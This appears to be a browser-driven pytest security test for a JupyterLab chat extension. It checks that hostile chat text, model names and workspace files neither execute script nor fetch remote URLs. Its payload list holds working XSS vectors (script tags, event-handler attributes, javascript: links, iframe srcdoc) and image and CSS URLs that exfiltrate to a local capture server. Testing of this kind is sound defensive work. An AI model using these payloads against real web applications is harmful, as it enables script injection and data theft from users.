"""Hostile chat text on every output path, in a real JupyterLab in Chromium: nothing runs,
no active link is kept, nothing remote is fetched until the user clicks.

The payloads reach the page the ways an attacker has: a model's answer (a scripted upstream
answers with them), an imported chat (its title and messages), a custom model's name and a
workspace file (its name and text, through search). They are shown by ``%%chat``,
``%oui chats``, ``%oui models``, ``%oui search``, ``ChatWidget``, ``SearchWidget`` and the
sidebar. Kernel outputs are trusted in JupyterLab (no sanitizer), so any raw HTML that got
through would run in the Jupyter origin.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import pytest
from support.lab_notebook import run_all_cells, wait_kernel_idle
from support.scripted_openai import ScriptedOpenAI

from .conftest import LabServer, free_port, open_lab, open_sidebar, running_lab, screenshot

MARK = "window.__pwned = (window.__pwned || 0) + 1"


def payloads(exfil: str) -> list[str]:
    return [
        f"<script>{MARK}</script>",
        f'<img src=x onerror="{MARK}">',
        f'<details open ontoggle="{MARK}"><summary>s</summary></details>',
        f'<svg><animate onbegin="{MARK}" attributeName=x dur=1s></animate></svg>',
        f'<a href="javascript:{MARK}">raw link</a>',
        f"[md link](javascript:{MARK})",
        f"[md link2](JaVaScRiPt:{MARK})",
        f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
        f"![exfil image]({exfil}/img?d=secret)",
        f'<img src="{exfil}/rawimg">',
        f'<div style="background-image: url({exfil}/css)">styled</div>',
        f'<video poster="{exfil}/poster" src="{exfil}/video"></video>',
    ]


class _Exfil(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Exfil.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def exfil() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _Exfil)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def hostile_lab(
    tmp_path_factory: pytest.TempPathFactory, exfil: str
) -> Iterator[tuple[LabServer, dict[str, str]]]:
    upstream = ScriptedOpenAI().start()
    text = "Here you go:\n\n" + "\n\n".join(payloads(exfil))
    upstream.replies["hostile"] = text
    config = {
        "openai_api_base_urls": [upstream.base_url],
        "openai_api_keys": ["none"],
        "local_model_enabled": False,
        "enable_title_generation": False,
    }
    base = tmp_path_factory.mktemp("hostile")
    try:
        with running_lab(base, config, log_name="jupyter-hostile.log") as server:
            ids = _plant(server, exfil, text)
            yield server, ids
    finally:
        upstream.stop()


def _plant(server: LabServer, exfil: str, text: str) -> dict[str, str]:
    """The hostile chat, custom model and workspace file; the notebook that shows them all."""
    title = f'<img src=x onerror="{MARK}"> title'
    messages = {
        "u1": {
            "id": "u1",
            "parentId": None,
            "childrenIds": ["a1"],
            "role": "user",
            "content": f"<script>{MARK}</script> question",
            "timestamp": 1_700_000_000,
        },
        "a1": {
            "id": "a1",
            "parentId": "u1",
            "childrenIds": [],
            "role": "assistant",
            "model": "fast",
            "content": text,
            "timestamp": 1_700_000_001,
            "done": True,
        },
    }
    chat = server.api(
        "POST",
        "oui/api/v1/chats/new",
        {
            "chat": {
                "title": title,
                "models": ["fast"],
                "history": {"messages": messages, "currentId": "a1"},
            },
        },
    )
    server.api(
        "POST",
        "oui/api/v1/models/create",
        {
            "id": "hostile-model",
            "name": f'<img src=x onerror="{MARK}">',
            "base_model_id": "fast",
            "params": {},
            "meta": {"description": f"<script>{MARK}</script>"},
        },
    )
    (server.root_dir / "pwned notes.md").write_text(
        "# pwned notes\n\n" + "\n\n".join(payloads(exfil)) + "\n\nThe pwned marmalade report.\n"
    )
    cells = [
        "%load_ext oui_jupyter",
        "%oui models",
        "%oui chats",
        "%%chat -m fast --new\nhostile please",
        "%oui search pwned marmalade report -k 2",
        f"from oui_jupyter.notebook import ChatWidget, SearchWidget\nChatWidget(chat_id={chat['id']!r})",
        "SearchWidget('pwned marmalade report', k=2)",
    ]
    notebook = {
        "cells": [
            {
                "cell_type": "code",
                "source": source,
                "metadata": {},
                "outputs": [],
                "execution_count": None,
            }
            for source in cells
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (server.root_dir / "hostile.ipynb").write_text(json.dumps(notebook))
    return {"chat_id": chat["id"]}


def _wait_for_index(server: LabServer) -> None:
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        status = server.api("GET", "oui/api/v1/retrieval/status")
        if status.get("state") == "idle" and status.get("files", 0) >= 2:
            return
        time.sleep(1)
    pytest.fail(f"the workspace index did not finish: {status}")


ACTIVE_NODES = """(selector) => {
  const found = [];
  for (const root of document.querySelectorAll(selector)) {
    for (const el of [root, ...root.querySelectorAll('*')]) {
      for (const attr of el.getAttributeNames()) {
        if (attr.startsWith('on')) found.push(`${el.tagName} ${attr}`);
      }
      const href = (el.getAttribute('href') || '').replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      if (/^(javascript|vbscript|data):/.test(href)) found.push(`${el.tagName} href=${href}`);
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE'].includes(el.tagName.toUpperCase())) {
        found.push(el.tagName);
      }
    }
  }
  return found;
}"""
OUTPUTS = ".jp-OutputArea-output"
SIDEBAR = "#oui-jupyter-sidebar"


def test_hostile_text_runs_nothing_and_fetches_nothing(
    browser: Any, hostile_lab: tuple[LabServer, dict[str, str]]
) -> None:
    server, ids = hostile_lab
    _wait_for_index(server)
    _Exfil.hits.clear()
    page = open_lab(browser, server, "hostile.ipynb")
    try:
        run_all_cells(page)
        cells = page.locator(".jp-Notebook .jp-CodeCell")
        # every output path has shown its hostile text
        answer = cells.nth(3).locator(".jp-OutputArea-output")
        answer.filter(has_text="Here you go").first.wait_for(timeout=90_000)
        page.wait_for_function(
            "() => ![...document.querySelectorAll('.jp-OutputArea-output')].some(n => n.textContent.includes('▌'))",
            timeout=90_000,
        )
        cells.nth(1).get_by_text("hostile-model").wait_for(timeout=60_000)
        cells.nth(2).get_by_text("title").first.wait_for(timeout=60_000)
        cells.nth(4).locator("li.oui-hit").first.wait_for(timeout=90_000)
        widget = page.locator(".oui-chat-widget")
        widget.get_by_text("Here you go").first.wait_for(timeout=90_000)
        page.locator(".oui-search-widget li.oui-hit").first.wait_for(timeout=90_000)
        wait_kernel_idle(page)
        # The text is shown as text, and the remote image as a link naming its host.
        shown = cells.nth(3).inner_text()
        assert "<script>" in shown and "onerror" in shown
        assert cells.nth(3).locator("a.oui-remote-image").count() == 1
        notebook_found = page.evaluate(ACTIVE_NODES, OUTPUTS)
        page.evaluate("window.jupyterapp.commands.execute('docmanager:save')")

        # The sidebar: the imported chat, and the answer of the chat the %%chat cell made.
        sidebar = open_sidebar(page)
        sidebar.locator(
            f".jp-OuiChatList-item[data-chat-id='{ids['chat_id']}'] .jp-OuiChatList-open"
        ).click()
        message = sidebar.locator(".jp-OuiMessage[data-role='assistant']").last
        message.get_by_text("Here you go").wait_for(timeout=30_000)
        held = message.locator(".jp-OuiRemoteImage")
        held.first.wait_for(timeout=30_000)
        page.wait_for_timeout(1_000)  # anything the page would fetch or run has had its chance
        sidebar_found = page.evaluate(
            ACTIVE_NODES, f"{SIDEBAR} .jp-OuiMessage, {SIDEBAR} .jp-OuiChatList"
        )
        pwned = page.evaluate("window.__pwned ?? 0")
        fetched = list(_Exfil.hits)
        screenshot(page, "hostile-outputs")
        assert held.first.inner_text().startswith("Load image from 127.0.0.1:")

        # A click on the placeholder is the one way the image loads.
        held.first.click()
        message.locator("img[alt='exfil image']").wait_for(timeout=10_000)
        deadline = time.monotonic() + 10
        while not _Exfil.hits and time.monotonic() < deadline:
            time.sleep(0.1)
        clicked = list(_Exfil.hits)
    except Exception:
        screenshot(page, "FAILED-hostile-outputs")
        raise
    finally:
        page.context.close()

    assert pwned == 0, "a payload ran"
    assert notebook_found == [], notebook_found
    assert sidebar_found == [], sidebar_found
    assert fetched == [], f"remote URLs were fetched without a click: {fetched}"
    assert clicked == ["/img?d=secret"], clicked
    # Saved outputs hold inert HTML and plain text, never text/markdown with raw HTML in it
    # (VS Code, nbviewer and nbconvert render that).
    saved = json.loads((server.root_dir / "hostile.ipynb").read_text())
    outputs = [o for cell in saved["cells"] for o in cell.get("outputs", []) if "data" in o]
    assert len(outputs) >= 5 and any("text/html" in o["data"] for o in outputs)
    assert not [o for o in outputs if "text/markdown" in o["data"]]
